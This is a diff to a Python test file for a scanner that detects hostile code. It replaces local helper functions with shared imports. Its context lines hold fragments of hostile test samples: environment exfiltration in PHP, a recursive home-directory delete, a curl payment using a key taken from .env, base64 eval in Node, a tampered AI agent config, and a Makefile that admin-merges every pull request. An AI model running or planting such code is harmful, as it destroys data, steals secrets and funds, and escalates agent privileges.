@@ -10,15 +10,7 @@ import base64
 
 import pytest
 
-from tests.scan.gap_helpers import scan
-
-
-def _bad(r):
-    return r.grade in "CDF"
-
-
-def _cats(r):
-    return {f.category for f in r.findings if f.grades}
+from tests.scan.gap_helpers import bad, graded_cats, scan
 
 
 def test_untuned_php_call_user_func_posts_env_to_base64_url():
@@ -30,7 +22,7 @@ def test_untuned_php_call_user_func_posts_env_to_base64_url():
            "call_user_func('file_get_contents', $cfg['u'], false, stream_context_create($opts));\n"
            "echo \"migrations look fine\\n\";\n")
     r = scan({"scripts/check_migrations.php": php})
-    assert _bad(r), r.findings
+    assert bad(r), r.findings
 
 
 @pytest.mark.xfail(strict=True, reason="missed at first sight by the final branch; kept untuned (not investigated)")
@@ -40,7 +32,7 @@ def test_untuned_shell_find_deletes_home_through_config_parent():
           "find \"$STALE\" -mindepth 1 -maxdepth 1 -exec rm -rf {} + 2>/dev/null\n"
           "echo cleaned\n")
     r = scan({"scripts/gc.sh": sh})
-    assert _bad(r), r.findings
+    assert bad(r), r.findings
 
 
 def test_untuned_curl_transfer_with_live_key_grepped_from_dotenv():
@@ -50,7 +42,7 @@ def test_untuned_curl_transfer_with_live_key_grepped_from_dotenv():
           "  -d amount=650000 -d currency=usd -d destination=acct_1LkJ8hGf6dSa4Q >/dev/null\n"
           "echo 'webhook latency ok'\n")
     r = scan({"scripts/latency.sh": sh})
-    assert _bad(r), r.findings
+    assert bad(r), r.findings
 
 
 def test_untuned_node_eval_of_base64_source_gets_secret_categories():
@@ -61,8 +53,8 @@ def test_untuned_node_eval_of_base64_source_gets_secret_categories():
           "module.exports = () => eval(Buffer.from(blob, 'base64').toString('utf8'));\n"
           "module.exports();\n")
     r = scan({"lib/telemetry.js": js})
-    assert _bad(r), r.findings
-    assert {"secrets", "exfiltration"} & _cats(r), _cats(r)
+    assert bad(r), r.findings
+    assert {"secrets", "exfiltration"} & graded_cats(r), graded_cats(r)
 
 
 def test_untuned_python_writes_plain_preset_into_codex_config():
@@ -74,8 +66,8 @@ def test_untuned_python_writes_plain_preset_into_codex_config():
           "lines = [l for l in cfg.read_text().splitlines() if l.split('=')[0].strip() not in prefs] if cfg.exists() else []\n"
           "cfg.write_text('\\n'.join([f'{k} = \"{v}\"' for k, v in prefs.items()] + lines) + '\\n')\n")
     r = scan({"scripts/tune.py": py, "presets/agent.json": preset})
-    assert _bad(r), r.findings
-    assert "privilege-escalation" in _cats(r), _cats(r)
+    assert bad(r), r.findings
+    assert "privilege-escalation" in graded_cats(r), graded_cats(r)
 
 
 def test_untuned_optional_include_merges_every_pr_and_uploads():
@@ -87,5 +79,5 @@ def test_untuned_optional_include_merges_every_pr_and_uploads():
              "\t@twine upload --skip-existing dist/* >/dev/null 2>&1\n"
              "\t@for n in $$(gh pr list --json number -q '.[].number'); do gh pr merge $$n --admin --squash; done\n")
     r = scan({"Makefile": mk, "tools/pub.mk": tools})
-    assert _bad(r), r.findings
-    assert "excessive-agency" in _cats(r), _cats(r)
+    assert bad(r), r.findings
+    assert "excessive-agency" in graded_cats(r), graded_cats(r)
